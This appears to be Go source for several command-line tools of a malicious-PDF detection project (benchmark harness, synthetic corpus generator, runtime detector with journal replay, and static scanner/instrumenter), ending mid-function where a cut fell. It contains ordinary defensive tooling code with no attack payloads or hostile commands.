// -cpuprofile / -memprofile write pprof profiles of whichever mode ran, so
// perf work starts from a profile instead of a guess.
//
// -compare diffs two committed records and exits non-zero on a
// regression: warm open-phase p50 or parallel-cached docs/sec more than
// 10% worse, or any decrease in the deep-depth evasive detection rate —
// the CI gates behind `make bench-compare`.
package main

import (
	"flag"
	"fmt"
	"io"
	"log/slog"
	"os"
	"runtime"
	"runtime/pprof"
	"time"

	"pdfshield/internal/cache"
	"pdfshield/internal/cli"
	"pdfshield/internal/experiments"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
)

func main() {
	if err := run(); err != nil {
		slog.Error("fatal", "err", err)
		os.Exit(1)
	}
}

func run() error {
	scale := flag.Float64("scale", 0.1, "corpus scale relative to the paper (1.0 = full)")
	seed := flag.Int64("seed", 0, "experiment seed (0 = built-in default)")
	only := flag.String("only", "", "run a single experiment by id")
	outPath := flag.String("out", "", "also write rendered results to this file")
	list := flag.Bool("list", false, "list experiment ids and exit")
	workers := flag.Int("workers", 1, "worker-pool width for pipeline corpus passes (1 = serial, matching the paper; try runtime.NumCPU())")
	jsonPath := flag.String("json", "", "write a machine-readable batch/cache benchmark record to this file (skips the experiment suite)")
	depthFlag := flag.String("depth", "", "scan depth for the -json batch passes: static|standard|deep|auto (empty = standard; the experiment suite always runs the paper's standard depth)")
	benchDocs := flag.Int("bench-docs", 50, "total documents in the -json benchmark corpus")
	benchUnique := flag.Int("bench-unique", 5, "unique documents in the -json benchmark corpus (the rest are byte-identical duplicates)")
	cacheEntries := flag.Int("cache-entries", 0, "front-end cache entry cap for the -json cached pass (0 = default)")
	cacheBytes := flag.Int64("cache-bytes", 0, "front-end cache byte cap for the -json cached pass (0 = default)")
	cacheTTL := flag.Duration("cache-ttl", 0, "front-end cache TTL for the -json cached pass (0 = never expires)")
	cpuProfile := flag.String("cpuprofile", "", "write a CPU profile to this file")
	memProfile := flag.String("memprofile", "", "write a heap profile to this file on exit")
	metricsAddr := flag.String("metrics-addr", "", "serve Prometheus text metrics on this address (/metrics, plus expvar on /debug/vars); empty = off")
	pprofOn := flag.Bool("pprof", false, "also mount net/http/pprof at /debug/pprof on -metrics-addr (opt-in)")
	compare := flag.Bool("compare", false, "compare two BENCH_*.json records (positional args: OLD NEW); non-zero exit on >10% open-p50 regression")
	logOpts := cli.RegisterLogFlags(flag.CommandLine)
	flag.Parse()

	logger, err := logOpts.SetupLogger("pdfshield-bench")
	if err != nil {
		return err
	}

	if *list {
		for _, exp := range experiments.All() {
			fmt.Println(exp.ID)
		}
		return nil
	}

	if *compare {
		if flag.NArg() != 2 {
			return fmt.Errorf("-compare needs exactly two record paths: OLD NEW")
		}
		return runCompare(flag.Arg(0), flag.Arg(1))
	}

	if *metricsAddr != "" {
		// Both modes report into the process-wide default registry (systems
		// built without an explicit Obs option land there), so one endpoint
		// covers the experiment suite and the -json benchmark alike.
		srv, err := obs.Default.ServeMetricsDiag(*metricsAddr, nil, *pprofOn)
		if err != nil {
			return fmt.Errorf("metrics server: %w", err)
		}
		defer srv.Close()
		logger.Info("serving metrics", "url", fmt.Sprintf("http://%s/metrics", srv.Addr))
	}

	if *cpuProfile != "" {
		f, err := os.Create(*cpuProfile)
		if err != nil {
			return fmt.Errorf("cpuprofile: %w", err)
		}
		defer func() { _ = f.Close() }()
		if err := pprof.StartCPUProfile(f); err != nil {
			return fmt.Errorf("cpuprofile: %w", err)
		}
		defer pprof.StopCPUProfile()
	}
	if *memProfile != "" {
		defer func() {
			f, err := os.Create(*memProfile)
			if err != nil {
				logger.Error("memprofile", "err", err)
				return
			}
			defer func() { _ = f.Close() }()
			runtime.GC() // materialize final live-set before snapshotting
			if err := pprof.WriteHeapProfile(f); err != nil {
				logger.Error("memprofile", "err", err)
			}
		}()
	}

	depth, err := pipeline.ParseDepth(*depthFlag)
	if err != nil {
		return err
	}

	if *jsonPath != "" {
		cfg := cache.Config{MaxEntries: *cacheEntries, MaxBytes: *cacheBytes, TTL: *cacheTTL}
		return runJSONBench(*jsonPath, *seed, *workers, *benchDocs, *benchUnique, depth, cfg)
	}
	if depth != "" && depth != pipeline.DepthStandard {
		// The suite regenerates the paper's tables; its configuration is the
		// paper's (standard depth), not an operator choice.
		return fmt.Errorf("-depth %s: the experiment suite reproduces the paper at standard depth (use -json for depth-aware benchmarks)", depth)
	}

	cfg := experiments.Config{Scale: *scale, Seed: *seed, Workers: *workers}
	var w io.Writer = os.Stdout
	var file *os.File
	if *outPath != "" {
		var err error
		file, err = os.Create(*outPath)
		if err != nil {
			return err
		}
		defer func() { _ = file.Close() }()
		w = io.MultiWriter(os.Stdout, file)
	}

	fmt.Fprintf(w, "pdfshield evaluation harness — scale %.2f, seed %d, workers %d\n", *scale, *seed, *workers)
	fmt.Fprintf(w, "started %s\n\n", time.Now().Format(time.RFC3339))

	if *only != "" {
		for _, exp := range experiments.All() {
			if exp.ID != *only {
				continue
			}
			start := time.Now()
			res := exp.Run(cfg)
			fmt.Fprintf(w, "%s\n[%s finished in %.1fs]\n", res.Render(), exp.ID, time.Since(start).Seconds())
			return nil
		}
		return fmt.Errorf("unknown experiment %q (see -list)", *only)
	}

	experiments.RunAll(cfg, w)
	return nil
}
