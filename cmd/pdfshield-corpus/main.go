// Command pdfshield-corpus generates the synthetic evaluation corpus: PDF
// files with ground-truth labels in their names, reproducing the family mix
// and obfuscation statistics of the paper's dataset (Table V / Table VI).
//
// Usage:
//
//	pdfshield-corpus -out samples/ [-benign 200] [-malicious 100]
//	                 [-seed 1] [-family mal-printf]
package main

import (
	"flag"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"

	"pdfshield/internal/cli"
	"pdfshield/internal/corpus"
)

func main() {
	if err := run(); err != nil {
		slog.Error("fatal", "err", err)
		os.Exit(1)
	}
}

func run() error {
	outDir := flag.String("out", "", "output directory (required)")
	nBenign := flag.Int("benign", 50, "number of benign samples")
	nMal := flag.Int("malicious", 50, "number of malicious samples")
	seed := flag.Int64("seed", 1, "generator seed")
	family := flag.String("family", "", "generate only this malicious family")
	listFamilies := flag.Bool("families", false, "list malicious families and exit")
	logOpts := cli.RegisterLogFlags(flag.CommandLine)
	flag.Parse()

	if _, err := logOpts.SetupLogger("pdfshield-corpus"); err != nil {
		return err
	}

	if *listFamilies {
		for _, f := range corpus.MaliciousFamilies() {
			fmt.Println(f)
		}
		return nil
	}
	if *outDir == "" {
		flag.Usage()
		return fmt.Errorf("-out is required")
	}
	if err := os.MkdirAll(*outDir, 0o750); err != nil {
		return err
	}

	g := corpus.NewGenerator(*seed)
	written := 0
	write := func(s corpus.Sample) error {
		name := fmt.Sprintf("%s.pdf", s.ID)
		if err := os.WriteFile(filepath.Join(*outDir, name), s.Raw, 0o600); err != nil {
			return err
		}
		written++
		return nil
	}

	if *family != "" {
		for i := 0; i < *nMal; i++ {
			s, ok := g.MaliciousFamily(*family)
			if !ok {
				return fmt.Errorf("unknown family %q (see -families)", *family)
			}
			if err := write(s); err != nil {
				return err
			}
		}
		fmt.Printf("wrote %d %s samples to %s\n", written, *family, *outDir)
		return nil
	}

	for _, s := range g.BenignBatch(*nBenign) {
		if err := write(s); err != nil {
			return err
		}
	}
	for _, s := range g.MaliciousBatch(*nMal) {
		if err := write(s); err != nil {
			return err
		}
	}
	fmt.Printf("wrote %d samples (%d benign, %d malicious) to %s\n", written, *nBenign, *nMal, *outDir)
	return nil
}
