// Command pdfshield-detect runs the runtime detector as a stand-alone
// process: the tiny SOAP server receives context notifications from
// instrumented documents, the TCP hook endpoint receives captured API
// calls, and alerts stream to stdout.
//
// Usage:
//
//	pdfshield-detect -registry registry.json [-downloads downloads.json]
//	                 [-duration 30s]
package main

import (
	"flag"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"pdfshield/internal/detect"
	"pdfshield/internal/instrument"
	"pdfshield/internal/winos"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pdfshield-detect:", err)
		os.Exit(1)
	}
}

func run() error {
	registryPath := flag.String("registry", "", "registry JSON produced by pdfshield-scan (required)")
	downloadsPath := flag.String("downloads", "", "persistent downloaded-executables list")
	duration := flag.Duration("duration", 0, "exit after this long (0 = until SIGINT)")
	pollEvery := flag.Duration("poll", time.Second, "alert polling interval")
	flag.Parse()

	if *registryPath == "" {
		flag.Usage()
		return fmt.Errorf("-registry is required")
	}
	registry, err := instrument.LoadRegistryJSON(*registryPath)
	if err != nil {
		return err
	}

	det, err := detect.New(detect.Config{
		Registry:      registry,
		OS:            winos.NewOS(),
		DownloadsPath: *downloadsPath,
	})
	if err != nil {
		return err
	}
	if err := det.Start(); err != nil {
		return err
	}
	defer func() { _ = det.Close() }()

	fmt.Printf("detector id:   %s\n", registry.DetectorID())
	fmt.Printf("SOAP endpoint: %s\n", det.SOAPURL())
	fmt.Printf("hook endpoint: %s\n", det.HookAddr())
	fmt.Printf("documents:     %d registered\n", registry.Len())

	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM)
	var deadline <-chan time.Time
	if *duration > 0 {
		deadline = time.After(*duration)
	}

	seen := 0
	ticker := time.NewTicker(*pollEvery)
	defer ticker.Stop()
	for {
		select {
		case <-ticker.C:
			alerts := det.Alerts()
			for ; seen < len(alerts); seen++ {
				a := alerts[seen]
				fmt.Printf("ALERT doc=%s malscore=%d reason=%s features=%v isolated=%v\n",
					a.DocID, a.Malscore, a.Reason, a.Features.Positive(), a.IsolatedFiles)
			}
		case <-stop:
			fmt.Printf("shutting down: %d alerts total\n", len(det.Alerts()))
			return nil
		case <-deadline:
			fmt.Printf("duration elapsed: %d alerts total\n", len(det.Alerts()))
			return nil
		}
	}
}
