// Command pdfshield-detect runs the runtime detector as a stand-alone
// process: the tiny SOAP server receives context notifications from
// instrumented documents, the TCP hook endpoint receives captured API
// calls, and alerts stream to stdout.
//
// Usage:
//
//	pdfshield-detect -registry registry.json [-downloads downloads.json]
//	                 [-duration 30s] [-journal events.jsonl]
//	                 [-log-level info] [-log-json]
//	pdfshield-detect -registry registry.json -replay events.jsonl
//	                 [-depth static|standard|deep|auto]
//
// -journal records every detector event (context transitions, hooked API
// calls with their confinement decisions, feature triggers, alerts with
// the per-feature malscore breakdown) to a JSONL forensic journal,
// flushed per event so the record survives a crash.
//
// -replay re-feeds a recorded journal through a fresh detector state
// machine — no listeners, no live readers — and verifies the replay
// reproduces the recorded canonical event stream (feature triggers,
// malscores, alert ordering) byte-for-byte. When the recording contains
// static triage routes, each routed document is also cross-checked: a
// confident-benign route must carry a benign verdict, a confident-
// malicious route a malicious one, and neither may have detector events
// (the routed document never reached a reader). Alerts raised during the
// replay print in the live format; any divergence is reported and the
// command exits non-zero.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"os/signal"
	"syscall"
	"time"

	"pdfshield/internal/cli"
	"pdfshield/internal/detect"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/winos"
)

func main() {
	if err := run(); err != nil {
		slog.Error("fatal", "err", err)
		os.Exit(1)
	}
}

func run() error {
	registryPath := flag.String("registry", "", "registry JSON produced by pdfshield-scan (required)")
	downloadsPath := flag.String("downloads", "", "persistent downloaded-executables list")
	duration := flag.Duration("duration", 0, "exit after this long (0 = until SIGINT)")
	pollEvery := flag.Duration("poll", time.Second, "alert polling interval")
	replayPath := flag.String("replay", "", "replay a recorded journal through a fresh detector and verify determinism (no listeners started)")
	depthFlag := flag.String("depth", "", "scan depth the recording was made at: static|standard|deep|auto (replay cross-checks deep-scan records; -depth deep requires them)")
	logOpts := cli.RegisterLogFlags(flag.CommandLine)
	jOpts := cli.RegisterJournalFlags(flag.CommandLine, "pdfshield-detect")
	flag.Parse()

	logger, err := logOpts.SetupLogger("pdfshield-detect")
	if err != nil {
		return err
	}

	// The detector itself is depth-agnostic — runtime events look the same
	// whichever tier produced them — but the flag shares the pipeline
	// vocabulary so operators can assert what kind of run a recording
	// came from (see verifyDeepScan).
	depth, err := pipeline.ParseDepth(*depthFlag)
	if err != nil {
		return err
	}

	if *registryPath == "" {
		flag.Usage()
		return fmt.Errorf("-registry is required")
	}
	registry, err := instrument.LoadRegistryJSON(*registryPath)
	if err != nil {
		return err
	}

	if *replayPath != "" {
		return runReplay(*replayPath, registry, *downloadsPath, depth, logger)
	}

	jw, err := jOpts.Open(obs.Default)
	if err != nil {
		return err
	}
	defer func() {
		if jw == nil {
			return
		}
		if err := jw.Close(); err != nil {
			logger.Warn("journal close failed", "err", err)
		}
		if err := jw.Err(); err != nil {
			logger.Warn("journal is partial", "err", err, "dropped", jw.Dropped())
		}
	}()

	det, err := detect.New(detect.Config{
		Registry:      registry,
		OS:            winos.NewOS(),
		DownloadsPath: *downloadsPath,
		Obs:           obs.Default,
		Journal:       jw,
	})
	if err != nil {
		return err
	}
	if err := det.Start(); err != nil {
		return err
	}
	defer func() { _ = det.Close() }()

	logger.Info("detector running",
		"detector_id", registry.DetectorID(),
		"soap_endpoint", det.SOAPURL(),
		"hook_endpoint", det.HookAddr(),
		"documents", registry.Len())
	if jOpts.Path != "" {
		logger.Info("journaling", "path", jOpts.Path, "session", jOpts.Session)
	}

	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGINT, syscall.SIGTERM)
	// SIGQUIT prints a diagnostic dump (build identity + goroutines) to
	// stderr and keeps the detector running.
	quit := make(chan os.Signal, 1)
	signal.Notify(quit, syscall.SIGQUIT)
	var deadline <-chan time.Time
	if *duration > 0 {
		deadline = time.After(*duration)
	}

	seen := 0
	ticker := time.NewTicker(*pollEvery)
	defer ticker.Stop()
	for {
		select {
		case <-ticker.C:
			alerts := det.Alerts()
			for ; seen < len(alerts); seen++ {
				printAlert(alerts[seen])
			}
		case <-quit:
			var diag *obs.Diagnostics
			diag.WriteDump(os.Stderr)
		case <-stop:
			logger.Info("shutting down", "alerts", len(det.Alerts()))
			return nil
		case <-deadline:
			logger.Info("duration elapsed", "alerts", len(det.Alerts()))
			return nil
		}
	}
}

// printAlert renders one alert on stdout (the command's data output; logs
// stay on stderr).
func printAlert(a detect.Alert) {
	fmt.Printf("ALERT doc=%s malscore=%d reason=%s features=%v isolated=%v\n",
		a.DocID, a.Malscore, a.Reason, a.Features.Positive(), a.IsolatedFiles)
}

// runReplay re-feeds a recorded journal through a fresh detector (no
// listeners) journaling into memory, then diffs the recorded and replayed
// canonical event streams. A clean diff proves the journal deterministically
// reproduces the live run's feature vectors, malscores and alert order.
func runReplay(path string, registry *instrument.Registry, downloadsPath string, depth pipeline.Depth, logger *slog.Logger) error {
	recorded, err := journal.ReadFile(path)
	if err != nil {
		return err
	}
	logger.Info("replaying journal", "path", path, "events", len(recorded))

	var replayedBuf bytes.Buffer
	jw := journal.NewWriter(&replayedBuf, journal.Options{Session: "replay"})
	det, err := detect.New(detect.Config{
		Registry:      registry,
		OS:            winos.NewOS(),
		DownloadsPath: downloadsPath,
		Journal:       jw,
	})
	if err != nil {
		return err
	}

	stats := journal.Replay(recorded, det)
	if err := jw.Flush(); err != nil {
		return fmt.Errorf("replay journal: %w", err)
	}
	replayed, err := journal.Read(&replayedBuf)
	if err != nil {
		return fmt.Errorf("replay journal: %w", err)
	}

	for _, a := range det.Alerts() {
		printAlert(a)
	}
	logger.Info("replay complete",
		"notifies", stats.Notifies, "hooks", stats.Hooks,
		"forgets", stats.Forgets, "skipped", stats.Skipped,
		"alerts", len(det.Alerts()))

	if diffs := journal.Diff(recorded, replayed); len(diffs) > 0 {
		for _, d := range diffs {
			logger.Error("replay divergence", "diff", d)
		}
		return fmt.Errorf("replay diverged from recording in %d place(s)", len(diffs))
	}
	routed, err := verifyTriage(recorded, logger)
	if err != nil {
		return err
	}
	deep, err := verifyDeepScan(recorded, depth, logger)
	if err != nil {
		return err
	}
	fmt.Printf("replay verified: %d events deterministic (%d notifies, %d hooks, %d forgets)\n",
		len(journal.CanonStream(recorded)), stats.Notifies, stats.Hooks, stats.Forgets)
	if routed > 0 {
		fmt.Printf("triage verified: %d statically routed document(s) consistent with their verdicts\n", routed)
	}
	if deep > 0 {
		fmt.Printf("deep-scan verified: %d forced-execution record(s) consistent with their verdicts\n", deep)
	}
	return nil
}

// verifyDeepScan cross-checks the recording's forced-execution records:
// every deep-scan event must report at least one explored path (the
// natural path always runs) and belong to a document that reached a
// verdict. Deep-scan events are non-canonical — replay determinism never
// depends on them — so this is a consistency check, not a diff. With
// -depth deep the recording must actually contain such records (every
// opened document gets one at that depth); auto may legitimately have
// none when no document routed uncertain.
func verifyDeepScan(recorded []journal.Event, depth pipeline.Depth, logger *slog.Logger) (int, error) {
	verdicts := make(map[string]bool)
	for _, e := range recorded {
		if e.T == journal.TypeVerdict {
			verdicts[e.DocID] = true
		}
	}
	n, bad := 0, 0
	for _, e := range recorded {
		if e.T != journal.TypeDeepScan || e.DeepScan == nil {
			continue
		}
		n++
		if e.DeepScan.Paths < 1 {
			logger.Error("deep-scan inconsistency", "doc", e.DocID, "problem", "zero explored paths")
			bad++
		}
		if !verdicts[e.DocID] {
			logger.Error("deep-scan inconsistency", "doc", e.DocID, "problem", "no verdict recorded")
			bad++
		}
	}
	if bad > 0 {
		return n, fmt.Errorf("deep-scan records inconsistent in %d place(s)", bad)
	}
	if n == 0 && depth == pipeline.DepthDeep {
		return 0, fmt.Errorf("-depth deep: recording contains no deep-scan records")
	}
	return n, nil
}

// verifyTriage cross-checks the recording's static triage tier against its
// verdicts: a confident-benign route must end in a benign verdict, a
// confident-malicious route in a malicious one, and neither may have
// produced canonical detector events (the routed document never reached a
// reader). Returns how many routed ("benign"/"malicious") documents were
// verified; uncertain routes took the dynamic tier and are covered by the
// canonical-stream diff instead.
func verifyTriage(recorded []journal.Event, logger *slog.Logger) (int, error) {
	verdicts := make(map[string]*journal.Verdict)
	canonicalKeys := make(map[string]bool)
	for _, e := range recorded {
		if e.T == journal.TypeVerdict {
			verdicts[e.DocID] = e.Verdict
			continue
		}
		if e.Canon() != "" && e.Key != "" {
			canonicalKeys[e.Key] = true
		}
	}
	routed, bad := 0, 0
	for _, e := range recorded {
		if e.T != journal.TypeTriage || e.Triage == nil || e.Triage.Route == "uncertain" {
			continue
		}
		routed++
		v, ok := verdicts[e.DocID]
		if !ok {
			logger.Error("triage inconsistency", "doc", e.DocID, "route", e.Triage.Route, "problem", "no verdict recorded")
			bad++
			continue
		}
		wantMalicious := e.Triage.Route == "malicious"
		if v.Malicious != wantMalicious {
			logger.Error("triage inconsistency", "doc", e.DocID, "route", e.Triage.Route, "verdict_malicious", v.Malicious)
			bad++
		}
		if e.Key != "" && canonicalKeys[e.Key] {
			logger.Error("triage inconsistency", "doc", e.DocID, "route", e.Triage.Route,
				"problem", "statically routed key has canonical detector events", "key", e.Key)
			bad++
		}
	}
	if bad > 0 {
		return routed, fmt.Errorf("triage records inconsistent with verdicts in %d place(s)", bad)
	}
	return routed, nil
}
