// Command pdfshield-scan is the front-end CLI: it statically analyzes a PDF
// document, reports the five static features and the Javascript chains, and
// (unless -analyze is given) writes an instrumented copy plus the
// de-instrumentation spec.
//
// Usage:
//
//	pdfshield-scan [-analyze] [-out instrumented.pdf] [-spec spec.json]
//	               [-registry registry.json] [-endpoint url] input.pdf
package main

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"

	"pdfshield/internal/instrument"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pdfshield-scan:", err)
		os.Exit(1)
	}
}

func run() error {
	analyzeOnly := flag.Bool("analyze", false, "analyze only; do not instrument")
	outPath := flag.String("out", "", "instrumented output path (default: <input>.instrumented.pdf)")
	specPath := flag.String("spec", "", "de-instrumentation spec output path (default: <input>.spec.json)")
	registryPath := flag.String("registry", "", "registry JSON to load/append (created when absent)")
	endpoint := flag.String("endpoint", instrument.DefaultEndpoint, "detector SOAP endpoint embedded in monitoring code")
	seed := flag.Int64("seed", 0, "randomization seed (0 = time-based)")
	flag.Parse()

	if flag.NArg() != 1 {
		flag.Usage()
		return errors.New("exactly one input file required")
	}
	input := flag.Arg(0)
	raw, err := os.ReadFile(input)
	if err != nil {
		return err
	}

	feats, chains, _, err := instrument.Analyze(raw)
	if err != nil {
		return fmt.Errorf("analyze: %w", err)
	}
	merged, embedded, err := instrument.AnalyzeDeep(raw)
	if err != nil {
		return fmt.Errorf("deep analyze: %w", err)
	}
	fmt.Printf("file:              %s (%d bytes)\n", input, len(raw))
	fmt.Printf("static features:   %s\n", feats)
	if len(embedded) > 0 {
		fmt.Printf("embedded PDFs:     %d (merged features: %s)\n", len(embedded), merged)
	}
	fmt.Printf("feature vector:    F1..F5 = %v (merged %v)\n", feats.Vector(), merged.Vector())
	fmt.Printf("javascript chains: %d (triggered shown below)\n", len(chains.Chains))
	for _, c := range chains.Chains {
		if !c.Triggered {
			continue
		}
		preview := c.Source
		if len(preview) > 60 {
			preview = preview[:60] + "..."
		}
		fmt.Printf("  holder obj %-4d trigger=%-18s %d chars: %q\n", c.Holder, c.Trigger, len(c.Source), preview)
	}
	if *analyzeOnly {
		return nil
	}
	if !merged.HasJavaScript {
		fmt.Println("no javascript anywhere: nothing to instrument")
		return nil
	}

	var registry *instrument.Registry
	if *registryPath != "" {
		registry, err = instrument.LoadRegistryJSON(*registryPath)
		if err != nil && os.IsNotExist(errors.Unwrap(err)) {
			registry = nil
		} else if err != nil {
			return err
		}
	}
	if registry == nil {
		id, err := instrument.NewDetectorID(nil)
		if err != nil {
			return err
		}
		registry = instrument.NewRegistry(id)
	}

	ins := instrument.New(registry, instrument.Options{Endpoint: *endpoint, Seed: *seed})
	res, err := ins.InstrumentBytes(input, raw)
	if err != nil {
		return fmt.Errorf("instrument: %w", err)
	}

	out := *outPath
	if out == "" {
		out = input + ".instrumented.pdf"
	}
	if err := os.WriteFile(out, res.Output, 0o600); err != nil {
		return err
	}
	spec := *specPath
	if spec == "" {
		spec = input + ".spec.json"
	}
	specJSON, err := json.MarshalIndent(res.Spec, "", "  ")
	if err != nil {
		return err
	}
	if err := os.WriteFile(spec, specJSON, 0o600); err != nil {
		return err
	}
	if *registryPath != "" {
		if err := registry.SaveJSON(*registryPath); err != nil {
			return err
		}
	}

	fmt.Printf("instrumented:      %s (%d scripts, %d staged rewrites, %d embedded docs)\n", out, res.ScriptsInstrumented, res.StagedRewrites, len(res.Embedded))
	if res.Key.InstrKey != "" {
		fmt.Printf("protection key:    %s\n", res.Key)
	}
	for _, emb := range res.Embedded {
		fmt.Printf("embedded key:      %s -> %s\n", emb.DocID, emb.Key)
	}
	fmt.Printf("spec:              %s\n", spec)
	fmt.Printf("timing:            parse %.4fs, features %.4fs, instrument %.4fs\n",
		res.Timing.ParseDecompress.Seconds(), res.Timing.FeatureExtraction.Seconds(), res.Timing.Instrumentation.Seconds())
	return nil
}
