// Command pdfshield-scan is the front-end CLI: it statically analyzes PDF
// documents, reports the five static features and the Javascript chains, and
// (unless -analyze is given) writes an instrumented copy plus the
// de-instrumentation spec for each input.
//
// Multiple inputs are processed concurrently by a worker pool (-workers,
// default: the number of CPUs); reports are printed in input order. A
// content-addressed cache (on by default, -cache=false to disable)
// deduplicates identical inputs: byte-identical files are instrumented
// once and share the result, and a summary of hits/misses/evictions is
// printed after the scan.
//
// Usage:
//
//	pdfshield-scan [-analyze] [-depth static|standard|deep|auto] [-triage]
//	               [-out instrumented.pdf] [-spec spec.json]
//	               [-registry registry.json] [-endpoint url]
//	               [-workers N] [-cache] [-cache-entries N]
//	               [-cache-bytes N] [-cache-ttl d] [-metrics-addr host:port]
//	               [-journal events.jsonl] [-log-level info] [-log-json]
//	               input.pdf [input2.pdf ...]
//
// -metrics-addr serves live counters and phase-latency histograms in
// Prometheus text format on /metrics (expvar JSON on /debug/vars) for the
// duration of the scan.
//
// -journal records a doc-open event per input into a JSONL forensic
// journal — the front-end half of the record pdfshield-detect -journal
// continues at runtime.
package main

import (
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"runtime"
	"strings"
	"sync"

	"pdfshield/internal/cache"
	"pdfshield/internal/cli"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/triage"
)

func main() {
	if err := run(); err != nil {
		slog.Error("fatal", "err", err)
		os.Exit(1)
	}
}

func run() error {
	analyzeOnly := flag.Bool("analyze", false, "analyze only; do not instrument")
	outPath := flag.String("out", "", "instrumented output path (default: <input>.instrumented.pdf; single input only)")
	specPath := flag.String("spec", "", "de-instrumentation spec output path (default: <input>.spec.json; single input only)")
	registryPath := flag.String("registry", "", "registry JSON to load/append (created when absent)")
	endpoint := flag.String("endpoint", instrument.DefaultEndpoint, "detector SOAP endpoint embedded in monitoring code")
	seed := flag.Int64("seed", 0, "randomization seed (0 = time-based)")
	workers := flag.Int("workers", runtime.NumCPU(), "concurrent workers when scanning multiple inputs")
	useCache := flag.Bool("cache", true, "deduplicate byte-identical inputs through the content-addressed front-end cache")
	cacheEntries := flag.Int("cache-entries", 0, "cache entry cap (0 = default, negative = unlimited)")
	cacheBytes := flag.Int64("cache-bytes", 0, "cache byte cap (0 = default, negative = unlimited)")
	cacheTTL := flag.Duration("cache-ttl", 0, "cache entry time-to-live (0 = never expires)")
	metricsAddr := flag.String("metrics-addr", "", "serve Prometheus text metrics on this address (/metrics, plus expvar on /debug/vars); empty = off")
	pprofOn := flag.Bool("pprof", false, "also mount net/http/pprof at /debug/pprof on -metrics-addr (opt-in)")
	depthFlag := flag.String("depth", "", "scan depth: static|standard|deep|auto (same vocabulary as the pipeline commands; static and auto include the triage report)")
	useTriage := flag.Bool("triage", false, "deprecated: use -depth static|auto; report the static triage route per input")
	logOpts := cli.RegisterLogFlags(flag.CommandLine)
	jOpts := cli.RegisterJournalFlags(flag.CommandLine, "pdfshield-scan")
	flag.Parse()

	logger, err := logOpts.SetupLogger("pdfshield-scan")
	if err != nil {
		return err
	}

	// The front-end never opens a sandbox, so depth only selects the
	// static stages here: the depths with a triage tier turn the triage
	// report on. Parsing through the pipeline keeps the vocabulary (and
	// the error for a typo'd depth) identical across all four commands.
	depth, err := pipeline.ParseDepth(*depthFlag)
	if err != nil {
		return err
	}
	triageReport := *useTriage || depth == pipeline.DepthStatic || depth == pipeline.DepthAuto

	if flag.NArg() < 1 {
		flag.Usage()
		return errors.New("at least one input file required")
	}
	inputs := flag.Args()
	if len(inputs) > 1 && (*outPath != "" || *specPath != "") {
		return errors.New("-out/-spec require a single input; defaults are used per file otherwise")
	}

	var registry *instrument.Registry
	if *registryPath != "" {
		registry, err = instrument.LoadRegistryJSON(*registryPath)
		if err != nil && os.IsNotExist(errors.Unwrap(err)) {
			registry = nil
		} else if err != nil {
			return err
		}
	}
	if registry == nil {
		id, err := instrument.NewDetectorID(nil)
		if err != nil {
			return err
		}
		registry = instrument.NewRegistry(id)
	}
	if *metricsAddr != "" {
		srv, err := obs.Default.ServeMetricsDiag(*metricsAddr, nil, *pprofOn)
		if err != nil {
			return fmt.Errorf("metrics server: %w", err)
		}
		defer srv.Close()
		logger.Info("serving metrics", "url", fmt.Sprintf("http://%s/metrics", srv.Addr))
	}
	jw, err := jOpts.Open(obs.Default)
	if err != nil {
		return err
	}
	defer func() {
		if jw == nil {
			return
		}
		if err := jw.Close(); err != nil {
			logger.Warn("journal close failed", "err", err)
		}
		if err := jw.Err(); err != nil {
			logger.Warn("journal is partial", "err", err, "dropped", jw.Dropped())
		}
	}()
	// The instrumenter and registry are safe for concurrent use; one pair
	// serves all workers so keys stay unique across the whole scan.
	ins := instrument.New(registry, instrument.Options{Endpoint: *endpoint, Seed: *seed, Obs: obs.Default})
	var fc *cache.Cache
	if *useCache {
		fc = cache.New(cache.Config{
			MaxEntries: *cacheEntries,
			MaxBytes:   *cacheBytes,
			TTL:        *cacheTTL,
		})
		fc.RegisterMetrics(obs.Default)
	}

	reports := make([]string, len(inputs))
	errs := make([]error, len(inputs))
	nw := *workers
	if nw <= 0 {
		nw = runtime.NumCPU()
	}
	if nw > len(inputs) {
		nw = len(inputs)
	}
	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < nw; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range jobs {
				reports[i], errs[i] = scanFile(inputs[i], ins, fc, jw, *analyzeOnly, triageReport, *outPath, *specPath)
			}
		}()
	}
	for i := range inputs {
		jobs <- i
	}
	close(jobs)
	wg.Wait()

	var firstErr error
	for i := range inputs {
		if reports[i] != "" {
			fmt.Print(reports[i])
		}
		if errs[i] != nil {
			logger.Error("input failed", "input", inputs[i], "err", errs[i])
			if firstErr == nil {
				firstErr = errs[i]
			}
		}
	}
	if fc != nil && !*analyzeOnly {
		s := fc.Stats()
		fmt.Printf("cache:             %d hits, %d shared, %d misses (%.0f%% hit rate), %d evicted, %d expired, %d resident (%d bytes)\n",
			s.Hits, s.Shared, s.Misses, s.HitRate()*100, s.Evictions, s.Expired, s.Entries, s.Bytes)
	}
	if firstErr != nil {
		return fmt.Errorf("one or more inputs failed: %w", firstErr)
	}
	if *registryPath != "" {
		if err := registry.SaveJSON(*registryPath); err != nil {
			return err
		}
	}
	return nil
}

// scanFile analyzes (and optionally instruments) one input, returning its
// rendered report. It only writes the per-input output/spec files; stdout
// ordering is the caller's job. The document is parsed exactly once for
// analysis: embedded extraction reuses the parsed host instead of a
// second pdf.Parse over the same bytes.
func scanFile(input string, ins *instrument.Instrumenter, fc *cache.Cache, jw *journal.Writer, analyzeOnly, useTriage bool, outPath, specPath string) (string, error) {
	var sb strings.Builder
	raw, err := os.ReadFile(input)
	if err != nil {
		return "", err
	}
